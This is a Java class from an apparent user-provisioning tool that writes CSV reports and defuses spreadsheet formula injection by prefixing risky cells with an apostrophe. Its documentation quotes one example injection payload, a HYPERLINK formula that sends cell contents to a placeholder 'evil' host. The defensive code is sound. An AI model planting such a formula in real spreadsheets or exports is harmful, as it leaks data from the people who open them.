package io.tmsprovisioner.report;

import com.opencsv.CSVWriterBuilder;
import com.opencsv.ICSVWriter;
import io.tmsprovisioner.input.TapisNames;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.io.Writer;

/**
 * The one way the tool writes CSV: RFC 4180 with LF line ends, every cell made safe to open in a
 * spreadsheet. User names and messages come from input files and from Tapis, so a cell such as
 * {@code =HYPERLINK("http://evil/?"&A1)} must not become a live formula on the administrator's machine.
 */
final class SpreadsheetSafeCsv {

    /** What starts a formula in Excel, LibreOffice or Google Sheets (OWASP "CSV injection"). */
    private static final String FORMULA_STARTS = "=+-@\t\r";

    private final ICSVWriter csv;

    /** Does not own {@code out}: {@link #finish()} flushes it, closing is the caller's. */
    SpreadsheetSafeCsv(Writer out) {
        this.csv = new CSVWriterBuilder(out).withLineEnd("\n").build();
    }

    void row(String... cells) {
        String[] safe = new String[cells.length];
        for (int i = 0; i < cells.length; i++) {
            safe[i] = neutralise(cells[i]);
        }
        csv.writeNext(safe, false);
    }

    /** Flushes, and reports a write error that opencsv only records (a full disk must not leave a cut file unnoticed). */
    void finish() {
        if (csv.checkError()) {
            IOException failure = csv.getException();
            throw new UncheckedIOException("writing the CSV report failed", failure != null ? failure : new IOException());
        }
    }

    /**
     * A cell starting with a formula character gets a leading {@code '}, which spreadsheets read as "text"
     * and display without it. Except a cell made only of the characters of a Tapis user name
     * ({@link TapisNames}: letters, digits and {@code . _ - @}; it may start with {@code -} or {@code @}); without
     * parentheses, quotes, {@code !} or {@code |} such a cell can call no function, link or command, and
     * left alone it stays a valid user name when the report is fed back to {@code run}.
     */
    static String neutralise(String cell) {
        if (cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0 || TapisNames.userNameCharactersOnly(cell)) {
            return cell;
        }
        return "'" + cell;
    }
}
